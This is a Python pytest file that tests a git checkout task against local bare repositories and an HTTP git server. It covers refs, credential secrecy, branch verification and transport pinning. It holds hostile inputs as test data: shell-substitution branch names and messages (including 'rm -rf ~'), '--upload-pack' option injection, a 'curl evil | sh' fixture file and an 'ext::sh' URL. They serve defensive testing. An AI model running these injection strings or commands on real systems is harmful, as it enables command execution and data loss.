"""checkout: real git against real bare repositories (file://) and a real smart-HTTP server."""

from __future__ import annotations

import base64
import logging
import os
import socket
import subprocess
from pathlib import Path

import git
import pytest

from slipway.blocks.git import AppRepository, GitRemote
from slipway.exceptions import (
    CheckoutError,
    CommitNotOnBranch,
    RemoteUnavailable,
    UnsafeInputError,
)
from slipway.exceptions import retry_temporary_errors as _retry_when_temporary
from slipway.tasks.checkout import checkout_repo, validate_ref
from tests.servers.git_http import GitHttpServer, commit_files, git_executable, make_bare_repo

USER = "ci-bot"
TOKEN = "glpat-s3cr3t-T0ken-for-tests"
WRONG = "n0t-the-T0ken-at-all"
# Valid as a git ref (no spaces), yet every piece of it would run in a shell.
EVIL_BRANCH = "feat/$(touch${IFS}pwned);x`touch${IFS}pwned2`"
EVIL_MESSAGE = "fix: $(touch pwned) and `touch pwned2`\n\n$(rm -rf ~) ${IFS}"


def tag(bare: Path, name: str, sha: str, *, message: str | None = None) -> None:
    """Create a tag in a bare repository (annotated when a message is given)."""
    annotated = ["-a", "-m", message] if message else []
    subprocess.run(
        [
            git_executable(),
            "-c",
            "user.name=Tagger",
            "-c",
            "user.email=tagger@slipway.invalid",
            "--git-dir",
            str(bare),
            "tag",
            *annotated,
            name,
            sha,
        ],
        check=True,
        capture_output=True,
    )


@pytest.fixture
def app_repo(git_remote):
    """main: first (a.txt, b/c.txt) -> second (a.txt changed, d.txt) -> third (e.txt, -b/c.txt).

    Tags: v1 (lightweight) on second, v0 (annotated) on first.
    """
    bare, url = git_remote({"a.txt": "1\n", "b/c.txt": "x\n"}, message="first")
    first = git.Repo(bare).commit("main").hexsha
    second = commit_files(bare, {"a.txt": "2\n", "d.txt": "y\n"}, "second")
    third = commit_files(bare, {"e.txt": "3\n", "b/c.txt": None}, "third\n\nwith a body")
    tag(bare, "v1", second)
    tag(bare, "v0", first, message="the first release")
    return {"bare": bare, "remote": GitRemote(url=url), "shas": (first, second, third)}


def work(tmp_path: Path, name: str = "ws") -> Path:
    return tmp_path / "workspaces" / name


def test_checkout_branch_records_commit_and_changes_against_parent(app_repo, tmp_path):
    first, second, third = app_repo["shas"]
    workspace = work(tmp_path)

    result = checkout_repo(app_repo["remote"], workspace, ref="main")

    assert result.sha == third
    assert result.short_sha == third[:12]
    assert (result.ref, result.branch) == ("main", "main")
    assert (result.author, result.author_email) == ("Slipway Test", "test@slipway.invalid")
    assert result.message == "third\n\nwith a body"
    assert result.committed_at.startswith("2023-11-14T22:13:22")  # fixture dates: +1 s a commit
    assert result.base_sha == second
    assert result.changed_files == ("b/c.txt", "e.txt")  # deleted files count as changed
    assert result.workspace == workspace
    repo = git.Repo(workspace)
    assert repo.head.is_detached and repo.head.commit.hexsha == third
    assert sorted(p.name for p in workspace.iterdir()) == [".git", "a.txt", "d.txt", "e.txt"]
    assert (workspace / "a.txt").read_text() == "2\n"


def test_checkout_lightweight_tag(app_repo, tmp_path):
    first, second, _third = app_repo["shas"]

    result = checkout_repo(app_repo["remote"], work(tmp_path), ref="v1")

    assert (result.sha, result.branch, result.base_sha) == (second, None, first)
    assert result.changed_files == ("a.txt", "d.txt")


def test_checkout_annotated_tag_of_root_commit_lists_every_file(app_repo, tmp_path):
    first, _second, _third = app_repo["shas"]

    result = checkout_repo(app_repo["remote"], work(tmp_path), ref="v0")

    assert result.sha == first  # the commit, not the tag object
    assert result.base_sha is None
    assert result.changed_files == ("a.txt", "b/c.txt")
    assert result.message == "first"


def test_checkout_full_sha(app_repo, tmp_path):
    first, second, _third = app_repo["shas"]

    result = checkout_repo(app_repo["remote"], work(tmp_path), ref=second)

    assert (result.sha, result.ref, result.branch) == (second, second, None)
    assert result.base_sha == first
    assert result.changed_files == ("a.txt", "d.txt")
    assert git.Repo(work(tmp_path)).head.commit.hexsha == second


@pytest.mark.parametrize("base", ["first-sha", "v0"])
def test_changes_against_an_explicit_base(app_repo, tmp_path, base):
    first, _second, third = app_repo["shas"]
    base = first if base == "first-sha" else base

    result = checkout_repo(app_repo["remote"], work(tmp_path), ref="main", base=base)

    assert (result.sha, result.base_sha) == (third, first)
    assert result.changed_files == ("a.txt", "b/c.txt", "d.txt", "e.txt")


def test_fetch_is_shallow(app_repo, tmp_path):
    workspace = work(tmp_path)

    result = checkout_repo(app_repo["remote"], workspace, ref="main")

    assert result.shallow
    assert (workspace / ".git" / "shallow").is_file()
    # depth 2: the commit and its parent, not the whole history
    assert git.Repo(workspace).git.rev_list("--count", "HEAD") == "2"


def test_branch_names_and_messages_never_reach_a_shell(git_remote, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # anything a shell ran would create its files here
    bare, url = git_remote({"f.txt": "z\n"}, message=EVIL_MESSAGE, branch=EVIL_BRANCH)
    sha = commit_files(bare, {"g.txt": "w\n"}, EVIL_MESSAGE, branch=EVIL_BRANCH)

    result = checkout_repo(GitRemote(url=url), work(tmp_path), ref=EVIL_BRANCH)

    assert result.sha == sha
    assert result.branch == EVIL_BRANCH
    assert result.message == EVIL_MESSAGE.strip()
    assert result.changed_files == ("g.txt",)
    assert not list(tmp_path.rglob("pwned*"))


@pytest.mark.parametrize(
    "ref",
    [
        "-upload-pack=x",
        "--upload-pack=touch pwned",
        "a..b",
        "x y",
        "",
        "feat/$(touch pwned);x",  # the space makes it an invalid ref for git too
        "main@{1}",
        "refs//heads",
        "x.lock",
        "a:b",
        "a\nb",
        "/main",
        "main/",
    ],
)
def test_invalid_refs_are_refused_before_any_git_call(tmp_path, ref):
    # had git run, this missing remote would have raised CheckoutError instead
    remote = GitRemote(url=(tmp_path / "no-such-repo.git").as_uri())
    workspace = work(tmp_path)

    with pytest.raises(UnsafeInputError) as caught:
        checkout_repo(remote, workspace, ref=ref)
    assert isinstance(caught.value, ValueError)
    assert not workspace.exists()  # not even `git init` ran

    with pytest.raises(UnsafeInputError):
        checkout_repo(remote, workspace, ref="main", base=ref)
    assert not workspace.exists()


def test_validate_ref_accepts_ordinary_refs():
    for ref in ["main", "release/1.2", "v1.0.0", "feature/JIRA-12_x", "a" * 40, EVIL_BRANCH]:
        assert validate_ref(ref) == ref


def test_missing_branch_is_named(app_repo, tmp_path):
    with pytest.raises(CheckoutError, match="'nope' is neither a branch nor a tag"):
        checkout_repo(app_repo["remote"], work(tmp_path), ref="nope")


def test_abbreviated_sha_is_explained(app_repo, tmp_path):
    short = app_repo["shas"][1][:10]
    with pytest.raises(CheckoutError, match=f"{short}.*give all 40 hex digits"):
        checkout_repo(app_repo["remote"], work(tmp_path), ref=short)


def test_missing_sha_is_named(app_repo, tmp_path):
    missing = "ab" * 20
    with pytest.raises(CheckoutError, match=missing) as caught:
        checkout_repo(app_repo["remote"], work(tmp_path), ref=missing)
    assert not isinstance(caught.value, RemoteUnavailable)


def test_non_empty_workspace_is_refused(app_repo, tmp_path):
    workspace = work(tmp_path)
    workspace.mkdir(parents=True)
    (workspace / "keep.txt").write_text("mine")

    with pytest.raises(CheckoutError, match="is not empty"):
        checkout_repo(app_repo["remote"], workspace, ref="main")
    assert [p.name for p in workspace.iterdir()] == ["keep.txt"]


def test_missing_remote_is_a_checkout_error(tmp_path):
    remote = GitRemote(url=(tmp_path / "no-such-repo.git").as_uri())

    with pytest.raises(CheckoutError) as caught:
        checkout_repo(remote, work(tmp_path), ref="main")
    assert "does not appear to be a git repository" in str(caught.value)
    assert "stderr:" not in str(caught.value)  # git's words, not GitPython's wrapping


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_unreachable_http_remote_is_temporary(tmp_path):
    remote = GitRemote(url=f"http://127.0.0.1:{closed_port()}/team/app.git")

    with pytest.raises(RemoteUnavailable, match="remote unreachable"):
        checkout_repo(remote, work(tmp_path), ref="main")


@pytest.fixture
def http_repo(tmp_path):
    """A GitHttpServer with basic auth serving team/app.git (two commits on main)."""
    root = tmp_path / "served"
    bare = make_bare_repo(root, "team/app.git")
    commit_files(bare, {"a.txt": "1\n"}, "first")
    sha = commit_files(bare, {"b.txt": "2\n"}, "second")
    with GitHttpServer(root, username=USER, password=TOKEN) as server:
        yield server, sha


def test_checkout_over_http_with_credentials_keeps_the_token_out(http_repo, tmp_path, caplog):
    server, sha = http_repo
    caplog.set_level(logging.DEBUG)
    repository = AppRepository(url=server.repo_url("team/app.git"), username=USER, token=TOKEN)
    workspace = work(tmp_path)

    result = checkout_repo(repository, workspace, ref="main")

    assert result.sha == sha
    assert result.changed_files == ("b.txt",)
    assert server.records and all(r.auth == "ok" and r.user == USER for r in server.records)
    pair = base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
    for secret in (TOKEN, pair):
        assert not any(secret in r.path for r in server.records)
        assert secret not in (workspace / ".git" / "config").read_text()
        assert secret not in caplog.text
    assert "Authorization" not in (workspace / ".git" / "config").read_text()


def test_wrong_token_is_a_checkout_error_without_the_token(http_repo, tmp_path, caplog):
    server, _sha = http_repo
    caplog.set_level(logging.DEBUG)
    repository = AppRepository(url=server.repo_url("team/app.git"), username=USER, token=WRONG)

    with pytest.raises(CheckoutError) as caught:
        checkout_repo(repository, work(tmp_path), ref="main")

    message = str(caught.value)
    assert "authentication refused" in message
    assert not isinstance(caught.value, RemoteUnavailable)
    pair = base64.b64encode(f"{USER}:{WRONG}".encode()).decode()
    for secret in (WRONG, pair, TOKEN):
        assert secret not in message
        assert secret not in caplog.text
    assert {r.auth for r in server.records} == {"bad"}


def test_credentials_in_the_url_are_refused_without_echoing_them():
    url = f"https://{USER}:{TOKEN}@git.example.com/team/app.git"

    with pytest.raises(ValueError) as caught:
        AppRepository(url=url)
    assert "carries credentials" in str(caught.value)
    assert TOKEN not in str(caught.value)
    assert TOKEN not in repr(caught.value)


def test_token_is_kept_secret_by_the_block():
    repository = AppRepository(url="https://git.example.com/a.git", username=USER, token=TOKEN)

    assert TOKEN not in repr(repository)
    assert TOKEN not in repository.model_dump_json()
    assert TOKEN in repository.secret_values()


class _FinishedState:
    """The one thing the retry condition looks at: a state whose result() raises."""

    def __init__(self, error: BaseException | None) -> None:
        self.error = error

    def result(self) -> None:
        if self.error is not None:
            raise self.error


def test_retry_only_when_the_remote_was_unavailable():
    assert _retry_when_temporary(None, None, _FinishedState(RemoteUnavailable("down"))) is True
    assert _retry_when_temporary(None, None, _FinishedState(CheckoutError("no ref"))) is False
    assert _retry_when_temporary(None, None, _FinishedState(UnsafeInputError("bad"))) is False
    assert _retry_when_temporary(None, None, _FinishedState(None)) is False


# --- the default branch: the remote's, not a hard-coded name ---------------------------------


@pytest.fixture
def master_repo(tmp_path):
    """A repository whose default branch (HEAD) is master, with a stale main beside it."""
    bare = make_bare_repo(tmp_path / "remotes", "legacy.git", initial_branch="master")
    commit_files(bare, {"a.txt": "1\n"}, "first", branch="master")
    stale = commit_files(bare, {"old.txt": "x\n"}, "old main", branch="main")
    head = commit_files(bare, {"a.txt": "2\n"}, "second", branch="master")
    return {"bare": bare, "remote": AppRepository(url=bare.as_uri()), "head": head, "main": stale}


def test_no_branch_builds_the_remotes_default_branch(master_repo, tmp_path):
    result = checkout_repo(master_repo["remote"], work(tmp_path))

    assert (result.sha, result.branch, result.ref) == (master_repo["head"], "master", "master")


def test_head_names_the_default_branch(master_repo, tmp_path):
    result = checkout_repo(master_repo["remote"], work(tmp_path), branch="HEAD")

    assert (result.sha, result.branch) == (master_repo["head"], "master")


def test_a_remote_with_a_detached_head_asks_for_a_branch(master_repo, tmp_path):
    subprocess.run(
        [git_executable(), "--git-dir", str(master_repo["bare"]), "update-ref", "--no-deref",
         "HEAD", master_repo["head"]],
        check=True,
    )  # fmt: skip

    with pytest.raises(CheckoutError, match="does not name a default branch.*default_branch"):
        checkout_repo(master_repo["remote"], work(tmp_path))


# --- a commit runs as a branch only when it is on that branch ---------------------------------


@pytest.fixture
def forked_repo(git_remote):
    """main: c1 -> c2 -> c3 -> c4 -> c5; evil forks from c2 with one commit; tags on both."""
    bare, url = git_remote({"a.txt": "1\n"}, message="c1")
    shas = [git.Repo(bare).commit("main").hexsha]
    shas.append(commit_files(bare, {"a.txt": "2\n"}, "c2"))
    subprocess.run(
        [git_executable(), "--git-dir", str(bare), "branch", "evil", shas[1]], check=True
    )
    evil = commit_files(bare, {"deploy.sh": "curl evil | sh\n"}, "evil", branch="evil")
    for n in range(3, 6):
        shas.append(commit_files(bare, {"a.txt": f"{n}\n"}, f"c{n}"))
    tag(bare, "v-evil", evil)
    tag(bare, "v-old", shas[0], message="on main")
    return {"bare": bare, "remote": GitRemote(url=url), "main": shas, "evil": evil}


def test_a_commit_on_another_branch_is_refused_before_checkout(forked_repo, tmp_path):
    workspace = work(tmp_path)
    evil = forked_repo["evil"]

    with pytest.raises(CommitNotOnBranch) as caught:
        checkout_repo(forked_repo["remote"], workspace, ref=evil, branch="main")

    assert isinstance(caught.value, CheckoutError)
    assert (caught.value.commit, caught.value.branch) == (evil, "main")
    assert f"commit {evil}" in str(caught.value) and "'main'" in str(caught.value)
    assert [p.name for p in workspace.iterdir()] == [".git"]  # nothing checked out


def test_a_tag_on_another_branch_is_refused(forked_repo, tmp_path):
    with pytest.raises(CommitNotOnBranch, match=r"\('v-evil'\) is not on branch 'main'"):
        checkout_repo(forked_repo["remote"], work(tmp_path), ref="v-evil", branch="main")


def test_a_branch_head_claimed_as_another_branch_is_refused(forked_repo, tmp_path):
    with pytest.raises(CommitNotOnBranch):
        checkout_repo(forked_repo["remote"], work(tmp_path), ref="evil", branch="main")


def test_the_same_commit_runs_as_the_branch_it_is_on(forked_repo, tmp_path):
    evil = forked_repo["evil"]

    result = checkout_repo(forked_repo["remote"], work(tmp_path), ref=evil, branch="evil")

    assert (result.sha, result.branch) == (evil, "evil")


@pytest.mark.parametrize("which", ["head", "older than the fetch depth", "root via a tag"])
def test_commits_on_the_branch_pass_whatever_their_depth(forked_repo, tmp_path, which):
    main = forked_repo["main"]
    ref, sha = {
        "head": (main[-1], main[-1]),
        "older than the fetch depth": (main[1], main[1]),  # 3 commits below the head
        "root via a tag": ("v-old", main[0]),
    }[which]

    result = checkout_repo(forked_repo["remote"], work(tmp_path), ref=ref, branch="main")

    assert (result.sha, result.branch, result.ref) == (sha, "main", ref)
    assert git.Repo(work(tmp_path)).head.commit.hexsha == sha


def test_the_default_branch_is_verified_too(forked_repo, tmp_path):
    # a commit without a branch, run as the default branch (what the pipeline does)
    with pytest.raises(CommitNotOnBranch, match="'main'"):
        checkout_repo(forked_repo["remote"], work(tmp_path), ref=forked_repo["evil"], branch="HEAD")


def test_a_claimed_branch_that_does_not_exist_is_named(forked_repo, tmp_path):
    with pytest.raises(CheckoutError, match="branch 'nope' does not exist"):
        checkout_repo(forked_repo["remote"], work(tmp_path), ref=forked_repo["evil"], branch="nope")


def test_a_commit_off_the_branch_is_refused_over_http(tmp_path):
    root = tmp_path / "served"
    bare = make_bare_repo(root, "team/app.git")
    base = commit_files(bare, {"a.txt": "1\n"}, "first")
    commit_files(bare, {"a.txt": "2\n"}, "second")
    subprocess.run([git_executable(), "--git-dir", str(bare), "branch", "evil", base], check=True)
    evil = commit_files(bare, {"x.txt": "x\n"}, "evil", branch="evil")
    with GitHttpServer(root, username=USER, password=TOKEN) as server:
        repository = AppRepository(url=server.repo_url("team/app.git"), username=USER, token=TOKEN)
        with pytest.raises(CommitNotOnBranch):
            checkout_repo(repository, work(tmp_path, "a"), ref=evil, branch="main")
        assert checkout_repo(repository, work(tmp_path, "b"), ref=base, branch="main").sha == base


# --- git transports are pinned ------------------------------------------------------------------


def test_an_ext_url_is_refused_by_git_whatever_the_machine_config_allows(tmp_path, monkeypatch):
    marker = tmp_path / "ext-ran"
    url = f"ext::sh -c touch% {marker}"
    config = tmp_path / "permissive.gitconfig"
    config.write_text('[protocol]\n\tallow = always\n[protocol "ext"]\n\tallow = always\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    # the control: with this machine config, git alone runs the command
    subprocess.run([git_executable(), "ls-remote", url], capture_output=True, check=False)
    assert marker.exists()
    marker.unlink()
    # a block saved before the URL check (or built around it) still meets git's pin
    remote = GitRemote.model_construct(url=url, username=None, token=None)

    with pytest.raises(CheckoutError, match="transport 'ext' not allowed"):
        checkout_repo(remote, work(tmp_path), branch="main")
    assert not marker.exists()


def test_plain_http_is_refused_unless_the_url_asks_for_it(http_repo, tmp_path):
    server, sha = http_repo
    url = server.repo_url("team/app.git")
    as_https_only = AppRepository(url=url, username=USER, token=TOKEN)
    env = {**as_https_only.git_env(), "GIT_ALLOW_PROTOCOL": "https:ssh:file"}

    refused = subprocess.run(
        [git_executable(), "ls-remote", url], env={**os.environ, **env}, capture_output=True,
        text=True, check=False,
    )  # fmt: skip

    assert refused.returncode != 0 and "transport 'http' not allowed" in refused.stderr
    assert checkout_repo(as_https_only, work(tmp_path), branch="main").sha == sha
